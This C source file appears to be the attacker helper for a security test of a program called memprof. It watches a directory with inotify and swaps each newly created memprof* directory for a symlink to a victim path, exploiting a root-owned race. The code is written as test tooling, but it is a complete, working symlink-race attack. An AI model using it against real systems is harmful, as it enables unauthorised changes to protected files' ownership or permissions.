/* dumpdir_attacker.c - not a target: the hostile user of
 * t_security_dumpdir_race.sh.  Run as the target's own user, it watches
 * DIR (the target's TMPDIR, which that user owns) with inotify and, the
 * moment a memprof* directory appears there, renames it away and puts a
 * symbolic link to VICTIM in its place, hoping that root's memprof then
 * changes VICTIM's owner or mode by that name.  Prints "ready", then one
 * "swapped NAME" line per swap it made. */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: dumpdir_attacker DIR VICTIM\n");
        return 2;
    }
    if (chdir(argv[1]) < 0) {
        perror(argv[1]);
        return 1;
    }
    int in = inotify_init1(IN_CLOEXEC);
    if (in < 0 || inotify_add_watch(in, ".", IN_CREATE | IN_MOVED_TO) < 0) {
        perror("inotify");
        return 1;
    }
    printf("ready\n");
    fflush(stdout);
    unsigned long n = 0;
    char buf[64 * (sizeof(struct inotify_event) + NAME_MAX + 1)]
        __attribute__((aligned(__alignof__(struct inotify_event))));
    for (;;) {
        ssize_t len = read(in, buf, sizeof buf);
        if (len < 0 && errno == EINTR)
            continue;
        if (len <= 0)
            return 1;
        for (char *p = buf; p < buf + len;) {
            struct inotify_event *ev = (struct inotify_event *)p;
            p += sizeof *ev + ev->len;
            if (!ev->len || !(ev->mask & IN_ISDIR) || strncmp(ev->name, "memprof", 7) != 0)
                continue;
            char moved[NAME_MAX + 32];
            snprintf(moved, sizeof moved, "moved.%lu", n++);
            if (rename(ev->name, moved) == 0 && symlink(argv[2], ev->name) == 0) {
                printf("swapped %s\n", ev->name);
                fflush(stdout);
            }
        }
    }
}
